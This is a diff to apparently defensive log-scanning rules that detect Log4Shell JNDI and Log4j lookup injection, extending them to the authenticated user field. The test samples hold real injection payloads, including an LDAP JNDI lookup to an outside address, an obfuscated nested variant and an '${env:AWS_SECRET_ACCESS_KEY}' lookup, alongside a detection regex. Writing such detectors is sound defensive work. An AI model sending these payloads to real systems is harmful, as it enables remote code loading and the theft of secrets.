@@ -80,8 +80,9 @@ class Log4ShellJndi(Rule):
     severity = Severity.CRITICAL
     description = "JNDI lookup ${jndi:...} (Log4Shell), also obfuscated with nested lookups"
     logs = BOTH
-    fields: ClassVar[tuple[str, ...]] = PAYLOAD_FIELDS
-    triggers = dict.fromkeys(PAYLOAD_FIELDS, r"\$\{")
+    # And the authenticated user (%u): a Basic-auth user name is the client's text too.
+    fields: ClassVar[tuple[str, ...]] = (*PAYLOAD_FIELDS, "user")
+    triggers = dict.fromkeys(fields, r"\$\{")
     gate = "{"
     field_local = True
     must_match = (
@@ -95,10 +96,12 @@ class Log4ShellJndi(Rule):
         ),
         ErrorSample(message="File does not exist: /var/www/html/${jndi:ldap://x.example/a}"),
         AccessSample(target="/", user_agent="${${date:'j'}${upper:n}di:ldap://x.example/a}"),
+        AccessSample(target="/private/", status=401, user="${jndi:ldap://198.51.100.9/a}"),
     )
     must_not_match = (
         AccessSample(target="/docs/jndi-datasource-howto"),
         AccessSample(target="/tpl?name=${user.name}"),
+        AccessSample(target="/private/", user="jndi.admin"),
     )
 
     def match_field(self, field: str, text: str) -> str | None:
@@ -130,7 +133,7 @@ class Log4ShellLookup(PatternRule):
     severity = Severity.HIGH
     description = "Log4j lookup syntax (${env:, ${sys:, ${lower:, nested ${${) in a request"
     logs = BOTH
-    fields = PAYLOAD_FIELDS
+    fields = (*PAYLOAD_FIELDS, "user")
     pattern = Regex(
         r"\$\{\s*(?:env|sys|java|lower|upper|date|ctx|main|base64|k8s|docker|spring|bundle|marker"
         r"|sd|web|log4j|jvmrunargs|event|::-)\s*:|\$\{\s*\$\{"
@@ -140,6 +143,7 @@ class Log4ShellLookup(PatternRule):
     must_match = (
         AccessSample(target="/", user_agent="${env:AWS_SECRET_ACCESS_KEY}"),
         AccessSample(target="/?q=%24%7B%24%7Bsys%3Auser.name%7D%7D"),
+        AccessSample(target="/private/", status=401, user="${env:USER}"),
     )
     must_not_match = (
         AccessSample(target="/pricing?currency=$"),
